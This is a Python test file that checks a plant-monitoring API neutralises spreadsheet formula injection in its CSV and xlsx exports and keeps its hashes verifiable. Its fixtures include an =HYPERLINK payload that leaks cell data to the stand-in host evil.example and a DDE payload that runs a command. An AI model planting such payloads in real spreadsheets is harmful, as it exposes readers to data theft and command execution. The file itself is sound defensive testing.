"""Spreadsheet-safe exports: a project name `=HYPERLINK(...)`, an EF source `=1+1`, a DDE
payload in a parameter source, a tag value `@pump1` and a site `bin,duong` reach CSV and xlsx
cells neutralised (never as formulas), CSV rows never split, and the hashes still verify from
the documented rule (strip one leading ')."""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import openpyxl
import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from plantmrv.analytics.config import AnalyticsConfig
from plantmrv.analytics.engine import Engine
from plantmrv.api.app import create_app
from plantmrv.api.cells import TRIGGERS, csv_rows, neutralise, unneutralise
from plantmrv.api.workbook import FORMULA_SHEETS
from plantmrv.influxwrite import write_batch
from plantmrv.simulators import plants
from tests import verify_export
from tests.test_api_support import DAY0, PROJECT_ID, S, TOKENS, analytics_raw, fresh_database, make_cfg

NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
DDE = "+cmd|' /C calc'!A0"
SITE, ASSET = "bin,duong", "@pump1"
RANGE = {"from": "2026-03-10T00:00:00Z", "to": "2026-03-10T06:00:00Z"}
#: what the export's formulas are made of: cell references (of its own sheets), the functions it
#: uses, numbers, operators and the empty text ""; anything else in a formula came from data
FORMULA_TOKENS = re.compile(r'(?:(?:Input|FOD|Days)!)?\$?[A-Z]{1,3}\$?[0-9]+|SUMIFS|SUM|MAX|MIN|IF|EXP|INT|ROUND|[0-9.]+(?:E-?[0-9]+)?|[-+*/(),:=<>]|""')


@pytest.fixture(scope="module")
def hostile(influxd, tmp_path_factory):
    influx = fresh_database(influxd, "t_api_cells")
    raw = analytics_raw()
    pump = next(p for p in raw["projects"] if p["id"] == PROJECT_ID)
    pump |= {"name": NAME, "site": SITE, "grid_ef": {"value": 0.8154, "unit": "tCO2/MWh", "source": "=1+1", "kind": "national"}}
    pump["assets"][0] |= {"asset": ASSET, "site": SITE}
    pump["parameters"]["eta_reference"]["source"] = DDE
    analytics = AnalyticsConfig.model_validate(raw)
    ts = DAY0 + np.arange(-60, 6 * 3600 + 61, 10, dtype=np.int64) * S
    write_batch(influx, plants.to_batch(SITE, ASSET, "pump", ts, {"energy_kwh": plants.generate("pump", ts, 7)["energy_kwh"]}))
    Engine(analytics, influx).backfill(DAY0, DAY0 + 6 * 3600 * S, projects=[analytics.projects[0]], interval_s=[3600])
    cfg = make_cfg("t_api_cells", influxd.url, tmp_path_factory.mktemp("cells"))
    cfg.analytics = analytics
    with TestClient(create_app(cfg)) as client:
        client.headers["Authorization"] = f"Bearer {TOKENS['operator']}"
        yield client
    influx.close()


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_csv_cells_are_neutralised_and_rows_never_split(hostile):
    r = hostile.get(f"/projects/{PROJECT_ID}/export", params=RANGE)
    rows = list(csv.reader(io.StringIO(r.text)))
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in TRIGGERS - {"'"} or _is_number(cell), (row, cell)  # only numbers may start with - or +
    sec = verify_export.sections(r.text)  # cells read back with one leading ' stripped
    meta = dict(sec["meta"][1:])
    assert meta["name"] == NAME and meta["ef_grid_source"] == "=1+1"
    assert next(p for p in sec["parameters"][1:] if p[0] == "eta_RE")[6] == DDE
    raw = sec["raw"][1:]
    assert raw and all(len(x) == 7 and x[1:3] == [SITE, ASSET] for x in raw)
    assert f"'{NAME}".replace('"', '""') in r.text and ",'=1+1," in r.text and ',"bin,duong",\'@pump1,' in r.text
    report = hostile.get(f"/projects/{PROJECT_ID}/monitoring-report", params={"period": "2026-03-10/2026-03-11"}).json()
    found = verify_export.check_csv(r.content)
    assert found["raw_rows"] > 2000 and found["parameters_sha256"] == report["parameters_sha256"]


def test_xlsx_holds_formulas_only_where_the_export_builds_them(hostile, tmp_path):
    r = hostile.get(f"/projects/{PROJECT_ID}/export", params=RANGE | {"format": "xlsx"})
    path = tmp_path / "export.xlsx"
    path.write_bytes(r.content)
    wb = openpyxl.load_workbook(path)
    formulas = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    formulas += 1
                    assert ws.title in FORMULA_SHEETS and FORMULA_TOKENS.sub("", str(c.value)) == "", (ws.title, c.coordinate, c.value)
                elif isinstance(c.value, str) and c.value:
                    assert c.value[0] not in TRIGGERS - {"'"}, (ws.title, c.coordinate, c.value)
    assert formulas > 6 * 6  # the Calculation sheet is live
    project = {row[0].value: row[1].value for row in wb["Project"].iter_rows() if row[0].value}
    assert project["name"] == "'" + NAME and project["ef_grid_source"] == "'=1+1"
    assert [c.value for c in wb["Raw"][1]][:5] == ["#point", "pump", "'" + SITE if SITE[0] in TRIGGERS else SITE, "'" + ASSET, "energy_kwh"]
    assert verify_export.check_xlsx(path)["raw_rows"] > 2000


@given(st.text(alphabet=st.characters(blacklist_characters="\x00"), max_size=30))
def test_neutralised_text_never_starts_a_formula_and_reads_back_exactly(text):
    cell = neutralise(text)
    assert not cell or cell[0] not in TRIGGERS - {"'"}
    assert unneutralise(cell) == text
    (row,) = list(csv.reader(io.StringIO(csv_rows([[text, 1.5, -2]]), newline="")))  # a lone CR is quoted too
    assert [unneutralise(row[0]), row[1], row[2]] == [text, "1.5", "-2"]
